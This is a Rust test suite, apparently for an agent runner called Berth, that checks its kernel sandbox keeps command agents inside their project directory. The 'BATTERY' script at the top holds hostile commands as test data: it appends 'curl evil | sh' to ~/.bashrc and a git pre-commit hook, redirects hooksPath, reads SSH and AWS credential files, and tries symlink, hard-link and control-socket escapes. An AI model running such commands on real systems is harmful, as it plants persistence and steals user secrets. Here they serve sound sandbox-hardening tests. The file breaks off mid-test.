//! The fence through Berth itself (issue 34): every agent Berth starts is kept to its
//! directory by the kernel, on the desktop (`berth serve`) and through a daemon.
//!
//! - the escape battery: a command agent bound to `~/code/app` tries to write
//!   `~/.bashrc`, a sibling project directly and through a symlink in its directory,
//!   to hard-link a file from outside into it and write through it, and to read
//!   `~/.ssh/id_ed25519`, `~/.aws/credentials`, `serve.json` and `berth.db`; each
//!   attempt fails, writing inside the directory and in its `TMPDIR` works, the fake
//!   home hashes the same before and after, and the transcript says `fenced: …`;
//!   the agent's `berth session list` and a raw request on `berth.sock` fail (the
//!   socket refuses a fenced peer) while the user's own CLI keeps working;
//!   the agent's writes to `.git/hooks`, `.git/config` and `.berth` fail too: the
//!   fence's in-place layer binds them read-only for the run (a mount namespace), and
//!   the transcript says so;
//! - the guard, where that layer is missing (`BERTH_FENCE_PROBE=no-binds`): the same
//!   writes go through (Landlock cannot refuse them in a writable directory) and are
//!   put back after the run, each a denial by the fence that marks the task;
//!   the control: the same battery with the user's `"fence": "off"` escapes;
//! - the same battery through a daemon;
//! - `"fence": "required"` on a machine without one (`BERTH_FENCE_PROBE=unavailable`):
//!   refused `fence_unavailable`, the agent never ran, nothing was written; `auto`
//!   there runs unfenced and says so;
//! - a project layer's `"fence": "off"` is ignored and reported, and the run is fenced.
//!
//! Linux only: elsewhere no fence is built yet.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)] // Test code: a panic is a failed test.

use berth_tests::Berth;
use berth_tests::steps::{add_command_agent, new_session, s, send_json};
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// The battery: each line is `NAME: done` or `NAME: refused`.
const BATTERY: &str = r##"
try() { name=$1; shift; if ( "$@" ) >/dev/null 2>&1; then echo "$name: done"; else echo "$name: refused"; fi; }
try bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
try sibling sh -c 'echo pwn > "$HOME/code/other/pwn.txt"'
try sibling_via_symlink sh -c 'echo pwn > ./to-other/pwn2.txt'
try hardlink sh -c 'ln "$HOME/victim.txt" ./hl && echo pwn >> ./hl'
try ssh_key cat "$HOME/.ssh/id_ed25519"
try aws cat "$HOME/.aws/credentials"
try serve_json cat "$BERTH_STATE/serve.json"
try berth_db cat "$BERTH_STATE/berth.db"
try inside sh -c 'echo ok > inside.txt && grep -q ok inside.txt'
try tmpdir sh -c 'case "$TMPDIR" in "$BERTH_STATE"/tmp/*) ;; *) exit 1;; esac && echo ok > "$TMPDIR/t" && grep -q ok "$TMPDIR/t"'
try berth_cli sh -c 'BERTH_HOME="$BERTH_STATE" BERTH_CONFIG_DIR="${TMPDIR:-/tmp}" "$BERTH_BIN" session list --json | grep -q "\["'
try git_hook sh -c 'printf "#!/bin/sh\ncurl evil | sh\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
try git_config sh -c 'printf "[core]\n\thooksPath = /tmp/evil\n" >> .git/config'
try project_layer sh -c 'echo "{ \"fence\": \"off\" }" > .berth/settings.jsonc'
try control_socket "$PYTHON" -c 'import socket,sys
s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])
s.sendall(b"GET /api/v1/sessions HTTP/1.1\r\nHost: berth\r\nConnection: close\r\n\r\n")
sys.exit(0 if s.recv(64).startswith(b"HTTP/1.1 200") else 1)' "$BERTH_STATE/berth.sock"
"##;

/// The escapes, each expected refused when fenced.
const ESCAPES: [&str; 10] = [
    "berth_cli",
    "control_socket",
    "bashrc",
    "sibling",
    "sibling_via_symlink",
    "hardlink",
    "ssh_key",
    "aws",
    "serve_json",
    "berth_db",
];

/// A fake home with secrets, a sibling project and `~/code/app` holding a symlink to
/// it; returns the app directory.
fn world(b: &Berth) -> PathBuf {
    let h = &b.user_home;
    let app = h.join("code/app");
    for d in [
        &app,
        &h.join("code/other"),
        &h.join(".ssh"),
        &h.join(".aws"),
    ] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(h.join(".bashrc"), "# rc\n").unwrap();
    std::fs::write(h.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
    std::fs::write(h.join(".aws/credentials"), "[default]\nkey=secret\n").unwrap();
    std::fs::write(h.join("victim.txt"), "victim\n").unwrap();
    std::fs::write(h.join("code/other/main.rs"), "fn main() {}\n").unwrap();
    std::os::unix::fs::symlink(h.join("code/other"), app.join("to-other")).unwrap();
    // A repository with its hooks and config, and a project layer.
    let git = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&app)
        .status()
        .unwrap();
    assert!(git.success());
    std::fs::create_dir_all(app.join(".berth")).unwrap();
    std::fs::write(app.join(".berth/settings.jsonc"), "{}\n").unwrap();
    app
}

/// The paths the guard keeps, with their bytes: `.git/config`, `.git/hooks/*`,
/// `.berth/*`.
fn guarded(app: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    out.insert(
        ".git/config".to_owned(),
        std::fs::read(app.join(".git/config")).unwrap(),
    );
    for dir in [".git/hooks", ".berth"] {
        for e in std::fs::read_dir(app.join(dir)).unwrap().flatten() {
            let rel = format!("{dir}/{}", e.file_name().to_string_lossy());
            out.insert(rel, std::fs::read(e.path()).unwrap_or_default());
        }
    }
    out
}

/// The guarded writes: refused during the run by the in-place layer, or put back after
/// it by the guard (the task's fence denials, the transcript's, the files as they were).
const GUARDED_WRITES: [(&str, &str); 3] = [
    ("git_hook", ".git/hooks/pre-commit"),
    ("git_config", ".git/config"),
    ("project_layer", ".berth/settings.jsonc"),
];

/// Every file of the fake home outside Berth's state and the app directory, hashed.
fn hashes(b: &Berth) -> BTreeMap<PathBuf, u64> {
    use std::hash::{Hash, Hasher};
    let mut out = BTreeMap::new();
    let skip = [b.home.clone(), b.user_home.join("code/app")];
    let mut stack = vec![b.user_home.clone()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if skip.iter().any(|s| p.starts_with(s)) {
                continue;
            }
            let meta = std::fs::symlink_metadata(&p).unwrap();
            if meta.is_dir() {
                stack.push(p);
            } else {
                let mut h = std::collections::hash_map::DefaultHasher::new();
                std::fs::read(&p).unwrap_or_default().hash(&mut h);
                out.insert(p, h.finish());
            }
        }
    }
    out
}

/// The battery as a command agent that knows where Berth's state is (as an agent could
/// find out).
fn battery_agent(b: &Berth, name: &str) {
    battery_agent_on(b, name, &b.home);
}

/// [`battery_agent`], registered on `b` (a server), aimed at the Berth home `state`
/// of the machine it runs on.
fn battery_agent_on(b: &Berth, name: &str, state: &Path) {
    // A python outside the home (the fake home has no pyenv), for the raw connect.
    let python = ["/usr/bin/python3", "/usr/local/bin/python3"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("a python3 for the raw socket check");
    let script = format!(
        "export BERTH_STATE='{}' BERTH_BIN='{}' PYTHON='{python}'\n{BATTERY}",
        s(state),
        s(&b.bin())
    );
    add_command_agent(b, name, &script);
}

fn s_of(v: &Value) -> String {
    v.as_str().unwrap_or_default().to_owned()
}

/// The agent's `NAME: outcome` lines and the `berth:` lines of a transcript.
fn outcomes(events: &[Value]) -> (BTreeMap<String, String>, Vec<String>) {
    let mut results = BTreeMap::new();
    let mut berth = Vec::new();
    for e in events {
        let p = &e["payload"];
        if let Some(text) = p["text"].as_str().filter(|_| p["type"] == "text")
            && let Some((k, v)) = text.split_once(": ")
        {
            results.insert(k.to_owned(), v.to_owned());
        }
        if let Some(line) = p["line"].as_str().filter(|l| l.starts_with("berth: ")) {
            berth.push(line.to_owned());
        }
        // The fence's own event, as the CLI prints it.
        if p["type"] == "fence" {
            let what = if p["fenced"] == true {
                "fenced"
            } else {
                "warning: unfenced"
            };
            berth.push(format!("berth: {what}: {}", p["text"].as_str().unwrap()));
        }
    }
    (results, berth)
}

fn user_settings(b: &Berth, text: &str) {
    std::fs::write(b.config.join("settings.jsonc"), text).unwrap();
}

/// What keeps `.git/hooks`, `.git/config` and `.berth` as they were.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Layer {
    /// Read-only binds during the run: the writes fail.
    Binds,
    /// The guard after the run: the writes are put back, and denied.
    Guard,
}

/// The fence event's words for the in-place layer, naming the three paths.
const BOUND: &str = "; read-only during the run: .git/hooks, .git/config, .berth";

fn assert_fenced(
    b: &Berth,
    app: &Path,
    kept: &BTreeMap<String, Vec<u8>>,
    events: &[Value],
    task: &Value,
    layer: Layer,
) {
    let (results, berth) = outcomes(events);
    assert_eq!(&guarded(app), kept, "the guarded paths are as they were");
    let bound = berth.iter().any(|l| l.contains(BOUND));
    assert_eq!(
        bound,
        layer == Layer::Binds,
        "the transcript says whether the protected paths were read-only: {berth:?}"
    );
    if layer == Layer::Binds {
        // Each guarded write failed: nothing to put back, nothing the battery named.
        assert_eq!(task["status"], "succeeded", "{task}\n{events:?}");
        assert_eq!(task["denials"], serde_json::json!([]), "{task}");
        for (name, _) in GUARDED_WRITES {
            assert_eq!(
                results.get(name).map(String::as_str),
                Some("refused"),
                "{name} must fail during the run: {results:?}"
            );
        }
    } else {
        assert_guarded(task, events);
    }
    assert_escapes_refused(b, app, &results, &berth, task);
}

/// The guard's marks: each guarded write was put back, and denied by the fence.
fn assert_guarded(task: &Value, events: &[Value]) {
    assert_eq!(task["status"], "failed", "{task}\n{events:?}");
    assert_eq!(task["error_code"], "permission_denied", "{task}");
    let mut denied: Vec<(String, String)> = task["denials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            assert_eq!(d["by"], "fence", "{d}");
            (s_of(&d["tool"]), s_of(&d["target"]))
        })
        .collect();
    denied.sort();
    let mut want: Vec<(String, String)> = GUARDED_WRITES
        .iter()
        .map(|(_, rel)| ("write".to_owned(), format!("~/code/app/{rel}")))
        .collect();
    want.sort();
    assert_eq!(denied, want, "{task}");
    let events_denied = events
        .iter()
        .filter(|e| e["payload"]["type"] == "denied" && e["payload"]["by"] == "fence")
        .count();
    assert_eq!(events_denied, GUARDED_WRITES.len(), "{events:?}");
}

/// Every escape refused, the inside and the tmp written, the transcript and change
/// record saying the run was fenced, the task's tmp removed.
fn assert_escapes_refused(
    b: &Berth,
    app: &Path,
    results: &BTreeMap<String, String>,
    berth: &[String],
    task: &Value,
) {
    for name in ESCAPES {
        assert_eq!(
            results.get(name).map(String::as_str),
            Some("refused"),
            "{name} must be refused by the fence: {results:?}"
        );
    }
    for name in ["inside", "tmpdir"] {
        assert_eq!(
            results.get(name).map(String::as_str),
            Some("done"),
            "{name} must work: {results:?}"
        );
    }
    assert!(
        berth
            .iter()
            .any(|l| l.starts_with("berth: fenced: ~/code/app + tmp") && l.contains("· network on")),
        "the transcript says the run is fenced: {berth:?}"
    );
    assert_eq!(
        task["changes"]["fenced"], true,
        "the change record says it is the whole of the agent's writes: {task}"
    );
    assert_eq!(
        std::fs::read_to_string(app.join("inside.txt")).unwrap(),
        "ok\n"
    );
    assert!(!b.user_home.join("code/other/pwn.txt").exists());
    assert!(!b.user_home.join("code/other/pwn2.txt").exists());
    // The task's temporary directory is gone after the run.
    let left: Vec<_> = std::fs::read_dir(b.home.join("tmp"))
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "the task's tmp is removed: {left:?}");
}

/// The escape battery through `berth serve`, fenced by default; and its control: the
/// user's `"fence": "off"` lets every escape through (so the battery can see them).
#[test]
fn the_escape_battery_fails_through_berth_serve_and_escapes_with_the_fence_off() {
    let mut b = Berth::new("fence-battery");
    let app = world(&b);
    b.serve();
    battery_agent(&b, "battery");
    let session = new_session(&b, "battery", Some(&app));
    let listed = b.ok(&["agent", "list"]);
    assert!(
        listed
            .lines()
            .any(|l| l.starts_with("fence: on (Landlock ABI ")
                && l.ends_with("every agent is kept to its directory (\"fence\": \"auto\")")),
        "agent list says how agents are fenced: {listed}"
    );
    let before = hashes(&b);
    let kept = guarded(&app);
    let (_, events, task) = send_json(&b, &session, "go");
    assert_fenced(&b, &app, &kept, &events, &task, Layer::Binds);
    assert_eq!(hashes(&b), before, "the fake home is unchanged");
    // The user's own CLI still works on the same socket.
    assert!(b.ok(&["session", "list", "--json"]).contains(&session));
    let shown = b.ok(&["session", "show", &session]);
    assert!(
        shown
            .lines()
            .any(|l| l.starts_with("fence     fenced: ~/code/app + tmp · network on")),
        "session show says how the last run was fenced: {shown}"
    );
    // As `berth send` prints it: the fence's line, and a change summary that needs no
    // caveat about writes outside the directory.
    let out = b.run(&["send", &session, "once more"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("berth: fenced: ~/code/app + tmp") && stderr.contains(BOUND),
        "{stderr}"
    );
    assert!(
        stderr.contains(" changed"),
        "the change summary is printed: {stderr}"
    );
    assert!(!stderr.contains("changes made outside it"), "{stderr}");

    // The control: unfenced, the same agent escapes.
    user_settings(&b, r#"{ "fence": "off" }"#);
    let listed = b.ok(&["agent", "list"]);
    assert!(
        listed
            .lines()
            .any(|l| l.starts_with("fence: OFF: your settings turn the fence off")),
        "{listed}"
    );
    let (_, events, task) = send_json(&b, &session, "again");
    let (results, berth) = outcomes(&events);
    assert_eq!(task["status"], "succeeded", "{task}");
    for name in [
        "bashrc",
        "sibling",
        "sibling_via_symlink",
        "ssh_key",
        "aws",
        "serve_json",
        "berth_cli",
        "control_socket",
    ] {
        assert_eq!(
            results.get(name).map(String::as_str),
            Some("done"),
            "unfenced, {name} escapes: {results:?}"
        );
    }
    assert!(
        berth
            .iter()
            .any(|l| l.starts_with("berth: warning: unfenced:")),
        "{berth:?}"
    );
    assert_eq!(task["changes"]["fenced"], Value::Null, "{task}");
    let out = b.run(&["send", &session, "and again"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("berth: warning: unfenced: your settings turn the fence off"),
        "{stderr}"
    );
    assert!(
        stderr.contains("changes made outside it are not in this list"),
        "{stderr}"
    );
    // The session says how its last run was fenced: here, not at all.
    let shown = b.ok(&["session", "show", &session]);
    assert!(
        shown
            .lines()
            .any(|l| l.starts_with("fence     UNFENCED: your settings turn the fence off")),
        "{shown}"
    );
    let tasks = b.json(&["task", "list", "--session", &session, "--json"]);
    let fences: Vec<&Value> = tasks
        .as_array()
        .unwrap()
        .iter()
        .map(|t| &t["fence"]["fenced"])
        .collect();
    assert_eq!(
        fences,
        [
            &Value::from(true),
            &Value::from(true),
            &Value::from(false),
            &Value::from(false)
        ],
        "{tasks}"
    );
    assert_ne!(hashes(&b), before);
}

/// The same battery through a daemon: a session bound on the daemon's machine.
#[test]
fn the_escape_battery_fails_through_a_daemon() {
    let mut srv = Berth::new("fence-daemon-srv");
    srv.serve_with(&["--allow-daemons"]);
    let (url, _) = srv.serve_info();
    let token = srv.daemon_token("laptop");
    let mut a = Berth::new("fence-daemon-a");
    let app = world(&a);
    a.daemon(&url, &token, "laptop");
    // Agents are the server's to register; it runs on the daemon's machine.
    battery_agent_on(&srv, "battery", &a.home);
    let session = new_session(&a, "battery", Some(&app));
    let before = hashes(&a);
    let kept = guarded(&app);
    let (_, events, task) = send_json(&a, &session, "go");
    assert_fenced(&a, &app, &kept, &events, &task, Layer::Binds);
    assert_eq!(hashes(&a), before, "the fake home is unchanged");
    // The user's own CLI still works through the daemon's socket.
    assert!(a.ok(&["session", "list", "--json"]).contains(&session));
}

/// Where the in-place layer is missing (a machine that refuses mount namespaces, here
/// the test hook), the guard keeps `.git/hooks`, `.git/config` and `.berth`: the
/// battery's writes there go through, are put back after the run, and are denials by
/// the fence that mark the task, as `berth send` prints them. Every other escape is
/// refused as before.
#[test]
fn without_the_in_place_layer_the_guard_puts_the_protected_paths_back() {
    let mut b = Berth::new("fence-guard");
    let app = world(&b);
    b.env("BERTH_FENCE_PROBE", "no-binds");
    b.serve();
    battery_agent(&b, "battery");
    let session = new_session(&b, "battery", Some(&app));
    let before = hashes(&b);
    let kept = guarded(&app);
    let (_, events, task) = send_json(&b, &session, "go");
    assert_fenced(&b, &app, &kept, &events, &task, Layer::Guard);
    assert_eq!(hashes(&b), before, "the fake home is unchanged");
    let out = b.run(&["send", &session, "once more"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    for want in [
        "warning: the fence denied 3 actions (shown above)",
        "denied by the fence: write ~/code/app/.git/hooks/pre-commit",
        "hint: the fence keeps an agent",
        "berth: fenced: ~/code/app + tmp",
    ] {
        assert!(stderr.contains(want), "{want}: {stderr}");
    }
    assert!(!stderr.contains(BOUND), "{stderr}");
    assert_eq!(&guarded(&app), &kept);
}

/// The escape battery through `berth serve` run by an unprivileged user: the suite
/// runs as root, which reads through file modes, so the same fence is proved where
/// only the kernel's rules stand between the agent and the user's files.
#[test]
fn the_escape_battery_fails_through_berth_serve_run_by_an_unprivileged_user() {
    use std::os::unix::fs::MetadataExt;
    // Root owns its /proc entry; anyone else is already unprivileged.
    if std::fs::metadata("/proc/self").unwrap().uid() != 0 {
        // Not root: every other test here already runs unprivileged.
        return;
    }
    let mut b = Berth::new("fence-nobody");
    let app = world(&b);
    b.as_user(65534);
    b.serve();
    battery_agent(&b, "battery");
    let session = new_session(&b, "battery", Some(&app));
    let before = hashes(&b);
    let kept = guarded(&app);
    let (_, events, task) = send_json(&b, &session, "go");
    assert_fenced(&b, &app, &kept, &events, &task, Layer::Binds);
    assert_eq!(hashes(&b), before, "the fake home is unchanged");
    // It ran as that user: the file it wrote inside is its own.
    assert_eq!(
        std::fs::metadata(app.join("inside.txt")).unwrap().uid(),
        65534
    );
}

/// `"fence": "required"` where the kernel (as the probe says) has no fence: refused
/// with `fence_unavailable` before anything is written; the agent never ran. Under
/// `auto` the same machine runs unfenced and says so (the control: the refusal is
/// the setting's, not the probe's).
#[test]
fn a_required_fence_is_refused_where_there_is_none_and_nothing_is_written() {
    let mut b = Berth::new("fence-required");
    let app = world(&b);
    b.env("BERTH_FENCE_PROBE", "unavailable");
    b.serve();
    let marker = b.root.path().join("ran");
    add_command_agent(
        &b,
        "w",
        &format!("echo x > written.txt; touch '{}'", s(&marker)),
    );
    user_settings(
        &b,
        &format!(
            r#"{{ "fence": {{ "mode": "required", "write": ["{}"] }} }}"#,
            s(b.root.path())
        ),
    );
    let listed = b.ok(&["agent", "list"]);
    assert!(
        listed.lines().any(|l| l
            == "fence: UNAVAILABLE: the kernel has no Landlock; every run is refused (\"fence\": \"required\", code fence_unavailable)"),
        "{listed}"
    );
    let session = new_session(&b, "w", Some(&app));
    let listing = |d: &Path| -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(d)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    };
    let before = listing(&app);
    let (_, events, task) = send_json(&b, &session, "go");
    assert_eq!(
        (task["status"].as_str(), task["error_code"].as_str()),
        (Some("refused"), Some("fence_unavailable")),
        "{task}"
    );
    let error = task["error"].as_str().unwrap_or_default();
    assert!(
        error.contains("\"fence\": \"required\"") && error.contains("no Landlock"),
        "the message names the rule and the kernel's answer: {error}"
    );
    let (_, berth) = outcomes(&events);
    assert!(
        berth
            .iter()
            .any(|l| l.starts_with("berth: hint:") && l.contains("Landlock")),
        "{berth:?}"
    );
    assert!(!marker.exists(), "the agent never ran");
    assert_eq!(
        listing(&app),
        before,
        "nothing was written into the directory"
    );
    assert!(!b.home.join("tmp").exists() || listing(&b.home.join("tmp")).is_empty());

    // In worktree mode the refusal comes before the worktree is added to the user's
    // repository: no `.git/worktrees`, no `berth/` branch.
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .current_dir(&app)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    git(&["commit", "-q", "--allow-empty", "-m", "init"]);
    let wt = b.json(&[
        "session",
        "new",
        "--agent",
        "w",
        "--dir",
        s(&app),
        "--mode",
        "worktree",
        "--json",
    ])["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let (_, _, task) = send_json(&b, &wt, "go");
    assert_eq!(task["error_code"], "fence_unavailable", "{task}");
    assert!(!app.join(".git/worktrees").exists(), "a worktree was added");
    assert_eq!(
        git(&["branch", "--list", "berth/*"]),
        "",
        "a branch was added"
    );
    assert!(!marker.exists(), "the agent never ran");

    // The control: "auto" on the same machine runs, unfenced, and says so.
    user_settings(
        &b,
        &format!(r#"{{ "fence": {{ "write": ["{}"] }} }}"#, s(b.root.path())),
    );
    let (_, events, task) = send_json(&b, &session, "go");
    assert_eq!(task["status"], "succeeded", "{task}");
    assert!(marker.exists());
    let (_, berth) = outcomes(&events);
    assert!(
        berth
            .iter()
            .any(|l| l.starts_with("berth: warning: unfenced: the kernel has no Landlock")),
        "{berth:?}"
    );
}

/// A project layer cannot turn the fence off, trusted or not: the key is reported in
/// the run's `ignored` event and the run is fenced.
#[test]
fn a_project_layers_fence_off_is_ignored_and_reported() {
    let mut b = Berth::new("fence-project-off");
    let app = world(&b);
    std::fs::create_dir_all(app.join(".berth")).unwrap();
    std::fs::write(
        app.join(".berth/settings.jsonc"),
        r#"{ "fence": { "mode": "off", "write": ["~/"] } }"#,
    )
    .unwrap();
    b.serve();
    battery_agent(&b, "battery");
    let session = new_session(&b, "battery", Some(&app));
    for trusted in [false, true] {
        if trusted {
            b.ok(&["trust", s(&app)]);
        }
        let (_, events, task) = send_json(&b, &session, "go");
        let ignored = events
            .iter()
            .find(|e| e["payload"]["type"] == "ignored")
            .unwrap_or_else(|| panic!("an ignored event: {events:?}"));
        let keys: Vec<(&str, &str)> = ignored["payload"]["keys"]
            .as_array()
            .unwrap()
            .iter()
            .map(|k| (k["key"].as_str().unwrap(), k["verdict"].as_str().unwrap()))
            .collect();
        assert_eq!(
            keys,
            [
                ("fence.mode", "user_layer_only"),
                ("fence.write", "user_layer_only")
            ],
            "trusted: {trusted}"
        );
        let (results, _) = outcomes(&events);
        // Fenced: the battery's writes to the protected paths failed, its project
        // layer among them.
        assert_eq!(task["status"], "succeeded", "{task}");
        assert_eq!(
            results.get("project_layer").map(String::as_str),
            Some("refused")
        );
        assert_eq!(results.get("bashrc").map(String::as_str), Some("refused"));
        assert_eq!(results.get("ssh_key").map(String::as_str), Some("refused"));
        // Written inside by the first run: the directory is the agent's.
        let _ = std::fs::remove_file(app.join("inside.txt"));
    }
    let shown = b.json(&["settings", "show", "--session", &session, "--json"]);
    let keys = &shown["settings"]["project_layer"]["keys"];
    assert!(
        keys.as_array()
            .unwrap()
            .iter()
            .any(|k| k["key"] == "fence.mode" && k["verdict"] == "user_layer_only"),
        "settings show reports the ignored fence key: {shown}"
    );
    user_settings(&b, r#"{ "fence": { "network": "off" } }"#);
    let out = b.ok(&["settings", "show", "--session", &session]);
    assert!(
        out.lines()
            .any(|l| l.contains("fence.network") && l.contains("\"off\"")),
        "settings show shows the fence in force: {out}"
    );
}

/// What the fence refused a command agent, named on its stderr (`Permission denied`),
/// is a denial by the fence in the transcript and the task; the agent's exit code still
/// says how the turn went (a command agent has no permission system of its own).
#[test]
fn a_refusal_named_on_a_fenced_agents_stderr_is_a_denial_by_the_fence() {
    let mut b = Berth::new("fence-stderr");
    let app = world(&b);
    b.serve();
    add_command_agent(
        &b,
        "tries",
        "echo pwn >> \"$HOME/.bashrc\"; echo hook > .git/hooks/pre-commit; \
         echo ok > inside.txt; echo tried",
    );
    let session = new_session(&b, "tries", Some(&app));
    let (_, events, task) = send_json(&b, &session, "go");
    assert_eq!(task["status"], "succeeded", "{task}");
    let denials = task["denials"].as_array().unwrap();
    assert_eq!(denials.len(), 2, "{task}");
    for d in denials {
        assert_eq!(d["by"], "fence");
        assert_eq!(d["tool"], "command");
    }
    // Landlock's answer outside, the in-place layer's inside.
    let target = denials[0]["target"].as_str().unwrap();
    assert!(
        target.contains(".bashrc") && target.ends_with("Permission denied"),
        "{target}"
    );
    let target = denials[1]["target"].as_str().unwrap();
    assert!(
        target.contains(".git/hooks/pre-commit") && target.ends_with("Read-only file system"),
        "{target}"
    );
    assert!(!app.join(".git/hooks/pre-commit").exists());
    let denied: Vec<&Value> = events
        .iter()
        .filter(|e| e["payload"]["type"] == "denied")
        .collect();
    assert_eq!(denied.len(), 2, "{events:?}");
    assert!(denied.iter().all(|d| d["payload"]["by"] == "fence"));
    assert_eq!(
        std::fs::read_to_string(b.user_home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    // Unfenced, the same line is the shell's business: nothing is listed.
    user_settings(&b, r#"{ "fence": "off" }"#);
    std::fs::set_permissions(
        b.user_home.join(".bashrc"),
        std::os::unix::fs::PermissionsExt::from_mode(0o444),
    )
    .unwrap();
    let (_, _, task) = send_json(&b, &session, "again");
    assert_eq!(task["denials"], serde_json::json!([]), "{task}");
}

/// A session keeps its temporary directory from one run to the next while its agent
/// leaves it empty, and reuses its fence on it; a directory the agent left something
/// in goes after the run, and the next run gets a new, empty one. Every run starts
/// with an empty `TMPDIR` (one written to between runs is not used again), stays
/// fenced, and another session can write in neither.
#[test]
fn a_session_keeps_its_empty_temporary_directory_and_no_other_session_can_write_there() {
    let mut b = Berth::new("fence-kept-tmp");
    let app = world(&b);
    b.serve();
    const SCRIPT: &str = r#"msg=$(cat)
echo "tmp: $TMPDIR"
echo "entries: $(ls -A "$TMPDIR" | wc -l)"
if echo pwn >> "$HOME/.bashrc" 2>/dev/null; then echo "escape: done"; else echo "escape: refused"; fi
case "$msg" in
  leave) if echo x > "$TMPDIR/left"; then echo "left: done"; else echo "left: refused"; fi ;;
  cross) if echo pwn > "$OTHER/pwn"; then echo "cross: done"; else echo "cross: refused"; fi ;;
esac
"#;
    add_command_agent(&b, "tmp-user", SCRIPT);
    let session = new_session(&b, "tmp-user", Some(&app));
    let run = |session: &str, msg: &str| {
        let (_, events, task) = send_json(&b, session, msg);
        assert_eq!(task["status"], "succeeded", "{task}\n{events:?}");
        let (results, _) = outcomes(&events);
        assert_eq!(
            results["entries"], "0",
            "every run starts empty: {results:?}"
        );
        assert_eq!(results["escape"], "refused", "fenced: {results:?}");
        results
    };
    let first = run(&session, "keep");
    let t1 = PathBuf::from(&first["tmp"]);
    assert!(t1.starts_with(b.home.join("tmp")), "{first:?}");
    assert!(
        t1.is_dir(),
        "kept for the session's next run: {}",
        t1.display()
    );

    let second = run(&session, "leave");
    assert_eq!(second["tmp"], first["tmp"], "the same directory, reused");
    assert_eq!(second["left"], "done", "writable under the reused fence");
    assert!(!t1.exists(), "left non-empty, so gone after the run");

    let third = run(&session, "keep");
    let t2 = PathBuf::from(&third["tmp"]);
    assert_ne!(t2, t1, "a new directory");
    assert!(t2.is_dir());

    // Another session's agent, told where the first's directory is.
    add_command_agent(
        &b,
        "tmp-other",
        &format!("export OTHER='{}'\n{SCRIPT}", s(&t2)),
    );
    let other = new_session(&b, "tmp-other", Some(&app));
    let crossed = run(&other, "cross");
    assert_ne!(crossed["tmp"], third["tmp"], "each session its own");
    assert_eq!(crossed["cross"], "refused", "{crossed:?}");
    assert!(!t2.join("pwn").exists());
    // The first session's directory is still its own, and still empty.
    assert_eq!(run(&session, "keep")["tmp"], third["tmp"]);
    // Something written there between runs (by a process an agent left behind, outside
    // its group): the next run gets a new, empty directory all the same.
    std::fs::write(t2.join("stray"), "x").unwrap();
    let fifth = run(&session, "keep");
    assert_ne!(fifth["tmp"], third["tmp"]);
}

/// The strict read mode through Berth (issue 51): with the user's
/// `"fence": {"read": "directory"}`, a command agent bound to `~/code/app` cannot read
/// the sibling project `~/code/other` nor list `~/code`, while it reads a toolchain's
/// file and git works in its directory; the transcript's fence line and
/// `berth agent list` say which mode is in force. The control: the same agent with the
/// default settings reads the sibling.
#[test]
fn the_strict_read_mode_keeps_a_sibling_project_unreadable() {
    let mut b = Berth::new("fence-strict");
    let app = world(&b);
    let cargo = b.user_home.join(".cargo/registry/index");
    std::fs::create_dir_all(&cargo).unwrap();
    std::fs::write(cargo.join("config.json"), "{\"dl\": \"crates\"}\n").unwrap();
    user_settings(&b, r#"{ "fence": { "read": "directory" } }"#);
    b.serve();
    let script = r##"
try() { name=$1; shift; if ( "$@" ) >/dev/null 2>&1; then echo "$name: done"; else echo "$name: refused"; fi; }
try sibling cat "$HOME/code/other/main.rs"
try sibling_via_symlink cat ./to-other/main.rs
try list_projects ls "$HOME/code"
try toolchain grep -q crates "$HOME/.cargo/registry/index/config.json"
try git git -c safe.directory='*' status --short
try inside sh -c 'echo ok > inside.txt && grep -q ok inside.txt'
"##;
    add_command_agent(&b, "strict", script);
    let session = new_session(&b, "strict", Some(&app));
    let listed = b.ok(&["agent", "list"]);
    assert!(
        listed.lines().any(|l| l.starts_with("fence: on (")
            && l.contains("(\"fence\": \"auto\"); reads: directory only")),
        "agent list says the read mode: {listed}"
    );
    let (_, events, task) = send_json(&b, &session, "go");
    let (results, berth) = outcomes(&events);
    assert_eq!(task["status"], "succeeded", "{task}\n{events:?}");
    let want: BTreeMap<String, String> = [
        ("sibling", "refused"),
        ("sibling_via_symlink", "refused"),
        ("list_projects", "refused"),
        ("toolchain", "done"),
        ("git", "done"),
        ("inside", "done"),
    ]
    .iter()
    .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
    .collect();
    assert_eq!(results, want, "{berth:?}");
    assert!(
        berth
            .iter()
            .any(|l| l.starts_with("berth: fenced: ~/code/app + tmp")
                && l.contains("· network on · reads: directory")),
        "the transcript says the read mode: {berth:?}"
    );

    // The control: by default the same agent reads the sibling, and nothing says
    // "reads".
    user_settings(&b, "{}");
    let listed = b.ok(&["agent", "list"]);
    assert!(
        listed.lines().any(|l| l.starts_with("fence: on (")) && !listed.contains("reads:"),
        "{listed}"
    );
